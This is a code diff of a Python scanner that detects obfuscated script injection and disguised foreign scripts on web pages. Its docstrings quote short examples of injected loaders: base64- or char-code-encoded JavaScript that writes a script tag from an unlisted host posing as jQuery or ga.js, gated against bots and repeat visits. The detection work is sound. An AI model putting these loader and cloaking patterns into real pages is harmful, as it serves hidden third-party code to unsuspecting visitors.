+            return tgt
+        value = self.value(expr, pos, depth)
+        if value and "//" in value:
+            tgt = _foreign_target(_quote(value), self.site)
+            if tgt:
+                return tgt
+        names = []
+        for m in _IDENT.finditer(_STRING_LIT.sub("''", expr) if ("'" in expr or '"' in expr) else expr):
+            if m.group(0) not in _GLOBALS and not (m.start() and m.string[m.start() - 1] in ".$0123456789"):
+                names.append(m.group(0))
+            if len(names) >= 6:
+                break
+        for name in dict.fromkeys(names):
+            found = [a for a in self.assigns().get(name, ()) if a[0] < pos][-4:]
+            for end, _plus in reversed(found):
+                tgt = self.target(_expr_at(self.js, end), end, depth - 1)
+                if tgt:
+                    return tgt
+            if not found:
+                arg = self.argument(name, pos)
+                if arg:
+                    tgt = self.target(arg, pos, depth - 1)
+                    if tgt:
+                        return tgt
+        return None
+
+    def value(self, expr: str, pos: int, depth: int) -> str | None:
+        """The string a concatenation of literals and variables holding literals starts with."""
+        out = []
+        for part in _split_top(expr, "+")[:12]:
+            p = part.strip()
+            while p[:1] == "(" and p[-1:] == ")":
+                p = p[1:-1].strip()
+            if len(p) >= 2 and p[0] in "'\"" and p[-1] == p[0] and p[0] not in p[1:-1]:
+                out.append(_unescape_entry(p[1:-1]))
+                continue
+            if depth > 0 and _IDENT.fullmatch(p) and p not in _GLOBALS:
+                found = [a for a in self.assigns().get(p, ()) if a[0] < pos and not a[1]]
+                v = self.value(_expr_at(self.js, found[-1][0]), found[-1][0], depth - 1) if found else None
+                if v is None and not found:
+                    arg = self.argument(p, pos)
+                    v = self.value(arg, pos, depth - 1) if arg else None
+                if v is not None:
+                    out.append(v)
+                    continue
+            break
+        return "".join(out) if out else None
+
+    def argument(self, name: str, pos: int) -> str:
+        """The argument given for parameter `name` of the function that encloses `pos`, when
+        the function is called right where it is defined."""
+        best = None
+        for m, _ in zip(_FUNC_PARAMS.finditer(self.js, 0, pos), range(60)):
+            params = [x.strip() for x in (m.group(1) if m.group(1) is not None else m.group(2)).split(",")]
+            if name in params:
+                best = (m, params.index(name))
+        if best is None:
+            return ""
+        call = _IIFE_CALL.search(self.js, pos)
+        if call is None:
+            return ""
+        args = _split_top(call.group(1), ",")
+        return args[best[1]].strip() if best[1] < len(args) else ""
 _ACTION_WRITE = frozenset(("appendChild", "insertBefore", "append", "prepend", "after", "before", "replaceChild"))
 
 
 def vocabulary_intent(res: "Resolved", plain: str, site: str) -> Intent | None:
     """An action read from an encoded string table's words when its lookups cannot be resolved.
 
-    The foreign URL must be among the decoded strings and absent from the plain code (hidden),
+    The foreign URL must be among the decoded strings and its domain absent from the plain code (hidden),
     and the words of an action must be there too (in the strings or the code).
     """
     if not res.strings:
         return None
     joined = " ".join(_quote(x) for x in res.strings[:600])
     tgt = _foreign_target(joined, site)
-    if not tgt or tgt[0] in plain:
+    if not tgt or tgt[0] in plain or tgt[1] in plain:
         return None
     words = set(m.group(0) for m in _WORD.finditer(joined[:60_000]))
     words.update(m.group(0) for m in _WORD.finditer(plain[:60_000]))
@@ -1163,7 +1585,8 @@ _URL_REST = rx("SEO302.url_rest", r"""[^"'`\s\\<>]{0,400}+""", worst_case="a")
 # that name is disguising its script (sites load these from themselves or from a listed CDN)
 _LIBRARY_NAME = rx(
     "SEO302.library_name",
-    r"""(?:^|[/_.-])(jquery|bootstrap|angular|react|vue|lodash|underscore|moment|swfobject|modernizr|analytics|gtag|fbevents)"""
+    r"""(?:^|[/_.-])(jquery|bootstrap|angular|react|vue|lodash|underscore|moment|swfobject|modernizr|analytics|gtag|fbevents"""
+    r"""|ga|gtm|urchin)"""
     r"""(?:[.-](?!js$)[\w-]{1,20}+){0,8}+\.js$""",
     re.IGNORECASE,
     worst_case="/jquery.",
@@ -1407,7 +1830,11 @@ def analyse(page: Page) -> ScriptReport:
         if obf_tech or ((decoders or escapes) and len(js) < 6000):
             payloads, techs = decode_layers(js)
             for p in payloads[:12]:
-                decoded_intents.extend(script_intents(p, site))
+                for it in script_intents(p, site):
+                    words = _gate_words(it.gates, it.disguise) if it.kind == "writes-resource" else ""
+                    if words and words not in it.detail:
+                        it.detail += words
+                    decoded_intents.append(it)
             if payloads and not decoded_intents and (obf_tech or "escape sequences" in techs):
                 # encoded strings that name a foreign host, used by code that builds elements
                 # or navigates: the pieces are assembled at run time (e.g. a hex-escaped URL
@@ -1435,13 +1862,17 @@ def analyse(page: Page) -> ScriptReport:
                 # named plainly, or a URL cut into pieces
                 or (len(js) < 2000 and not toks.isdisjoint(_ACTION_TOKENS) and (
                     _CODE_ARRAY.search(js) or ("+" in js and _split_url(js))
-                    or (".join(" in js and _CHAR_LIST_JOIN.search(js))))):
+                    or (".join(" in js and (_CHAR_LIST_JOIN.search(js) or _PIECES_JOIN.search(js)
+                                            or (_PIECES_ARRAY.search(js) and _NAMED_JOIN.search(js))))
+                    or (".concat(" in js and _CONCAT_CALL.search(js))))):
             # literals decoded in place: escapes, char-code arrays, string tables (see resolve_code)
             res = resolve_code(js)
             if res is not None:
                 seen = {(it.kind, it.domain) for it in plain_intents}
+                # hidden: neither the URL nor its domain is in the code as written ('ht'+'tp://ads.host'
+                # is how old ad tags were written, and hides nothing)
                 found = [it for it in script_intents(res.code, site, variables=True)
-                         if (it.kind, it.domain) not in seen and it.url and it.url not in js]
+                         if (it.kind, it.domain) not in seen and it.url and it.url not in js and it.domain not in js]
                 if not found:
                     voc = vocabulary_intent(res, js, site)
                     found = [voc] if voc is not None and (voc.kind, voc.domain) not in seen else []
@@ -1451,8 +1882,9 @@ def analyse(page: Page) -> ScriptReport:
                     if not it.gates:
                         it.gates = _gates(res.code)
                     if resolved_tier(it) is not None:
-                        if _gate_words(it.gates) not in it.detail:
-                            it.detail += _gate_words(it.gates)
+                        words = _gate_words(it.gates, it.disguise)
+                        if words not in it.detail:
+                            it.detail = it.detail.removesuffix(_gate_words(it.gates)) + words
                         kept.append(it)
                 if kept:
                     techs = list(dict.fromkeys(res.techniques))
@@ -1594,19 +2026,28 @@ class ObfuscatedScript(Detector):
     Finds inline scripts that run encoded code (``eval(atob("..."))``, ``eval(unescape("%..."))``,
     ``eval(String.fromCharCode(...))``, Dean Edwards' ``eval(function(p,a,c,k,e,d)...)`` packer,
     long ``\\x`` escape strings) and decodes them. The finding is strong when the decoded code
-    writes a script or iframe from, or redirects to, an unrelated and unlisted domain, or
+    writes a script or iframe (``document.write``, ``createElement``, also called through a
+    computed member: ``document[t[0]]('script')``) from, or redirects to, an unrelated and unlisted domain, or
     cloaks by referrer or user agent; obfuscation that decodes to something harmless (an
     e-mail address protector, an ad network's fallback) is only a feature.
 
     Code whose strings are all encoded is resolved in place: ``\\x``/``\\u`` escapes, arrays of
-    char codes handed to any helper (``d([104,116,116,112,...])``), char codes in a string,
-    base64 entries, and string tables read by index (``document[_0x3a1f[0]](_0x3a1f[1])``,
-    also through an offset accessor or a literal rotation). An action found only this way is
-    graded by agreement: the gates around it (visitors from a search engine, a crawler test, a
-    once-per-visitor cookie or storage marker; a delay counts half) and a throwaway-looking host.
-    None: no finding (a vendor's protected widget loading from its own host); one: medium; two or
-    more: high/high. An action read only from a table's words (lookups not resolvable) is capped
-    at high/medium.
+    char codes handed to any helper (``d([104,116,116,112,...])``) or decoded by a loop, ``map``
+    or ``String.fromCharCode.apply``, char codes in a string, tag names spelled in codes
+    (``createElement(String.fromCharCode(115,99,...))``), base64 entries, URL pieces joined
+    (``[...].join('')``, ``''.concat(...)``, ``'<scr'+'ipt src="'+u``), and string tables read by
+    index (``document[_0x3a1f[0]](_0x3a1f[1])``, also through an offset accessor or a literal
+    rotation); the URL is followed from where it is decoded to where it is used (variables, an
+    immediately invoked function's arguments). The target counts as hidden only when its domain
+    is nowhere in the code as written (``'ht'+'tp://ads.example.com'`` hides nothing). An action
+    found only this way is graded by agreement: the gates around it (visitors from a search
+    engine, a crawler test, a login-cookie test that skips the site's owner, a once-per-visitor
+    cookie or storage marker; a delay or a phones-only test counts half), a throwaway-looking
+    host, a URL that passes for a popular library's (``jquery.min.js``, ``ga.js`` or a host named
+    after jQuery, unlisted), and, only next to one of these, a once-per-page window flag or a URL
+    that reports the visited page or referrer. None: no finding (a vendor's protected widget
+    loading from its own host); one: medium; two or more: high/high. An action read only from a
+    table's words (lookups not resolvable) is capped at high/medium.
 
     Example: ``var u=d([104,116,116,112,115,58,...]);if(!/bot|spider/i.test(navigator.userAgent)
     &&!localStorage.getItem('_x')){localStorage.setItem('_x',1);setTimeout(function(){
@@ -1614,6 +2055,12 @@ class ObfuscatedScript(Detector):
 
     Example: ``<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vMTg1LjIz..."))</script>``
     that decodes to ``document.write('<script src="http://185.23.x.x/j.js">')``.
+
+
+    Example: ``var k=[104,116,...],o='';for(...){o+=String.fromCharCode(k[i])}if(!window._l){
+    window._l=1;document.write('<scr'+'ipt src="'+o+'"></scr'+'ipt>')}`` loading
+    ``https://metrics-edge.top/js/jquery.min.js``: a cheap TLD and a library's file name on an
+    unlisted host agree (high/high).
     """
 
     id = "SEO301"
@@ -1674,8 +2121,8 @@ class ForeignResource(Detector):
     page or a one-word entry script (``/``, ``/?x=y``, ``/index.php``, ``/in.php``) of a bare or
     www host, rather than a service endpoint (``/tags?id=..``, ``/receiver.html``); a script-built
     loader from a bare or www host with a cache-buster (``+Math.random()``) and no account or site
-    identifier in its URL; a script named like a popular library (``jquery.min.js``) on an
-    unrelated, unlisted host. Agreement raises the finding: the host named nowhere else on the
+    identifier in its URL; a script named like a popular library or tag (``jquery.min.js``,
+    ``ga.js``) on an unrelated, unlisted host. Agreement raises the finding: the host named nowhere else on the
     page (a vendor usually has a script, preconnect or link there too), and the element placed
     first in the body or last in the document, where tools that append to files put it. Frames
     inside ``<noscript>`` are tag fallbacks and do not count.
